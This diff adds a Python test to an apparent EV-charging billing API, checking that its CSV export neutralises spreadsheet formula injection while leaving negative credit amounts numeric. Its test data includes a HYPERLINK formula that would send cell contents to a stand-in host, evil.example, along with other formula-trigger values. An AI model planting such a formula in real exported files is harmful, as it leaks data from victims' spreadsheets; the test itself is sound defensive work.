@@ -205,6 +205,32 @@ async def test_the_csv_export_is_the_stored_cdrs_to_the_cent(
             assert row[column] == str(cdr["total_cost"][part]), (column, row, cdr["total_cost"])
 
 
+async def test_the_csv_export_escapes_formulas_but_not_negative_amounts(
+    clean_db: str, keys: dict[str, str]
+) -> None:
+    """OWASP CSV injection: a text cell a spreadsheet would evaluate (= + - @ tab CR)
+    gets a leading apostrophe; a credit's negative amounts stay numbers."""
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"refund")'
+    cdr = issued_cdr(closed_session(T0, id_tag=link))
+    async with await _connect(clean_db) as conn:
+        await _issue(conn, cdr, id_tag=link, customer="@SUM(1+1)", station="-CP", site="+S")
+        await _issue(conn, credit_of(cdr), id_tag="\tTAB", customer="\rCR", site="S-1")
+    async with api_client(clean_db) as client:
+        resp = await client.get("/v1/cdrs/export.csv", headers=auth(keys["billing"]))
+    assert resp.status_code == 200, resp.text
+    original, credit = list(csv.DictReader(io.StringIO(resp.text)))
+    assert original["id_tag"] == "'" + link
+    assert (original["customer"], original["charge_point_id"], original["site_id"]) == (
+        "'@SUM(1+1)",
+        "'-CP",
+        "'+S",
+    )
+    assert (credit["id_tag"], credit["customer"], credit["site_id"]) == ("'\tTAB", "'\rCR", "S-1")
+    assert credit["total_excl_vat"] == str(-cdr["total_cost"]["excl_vat"])
+    assert credit["total_incl_vat"].startswith("-")
+    assert Decimal(credit["total_incl_vat"]) == -cdr["total_cost"]["incl_vat"]
+
+
 async def _refuse_incomplete_decisions(
     client: httpx.AsyncClient, base: str, held: dict[str, SessionClosed], billing: dict[str, str]
 ) -> None:
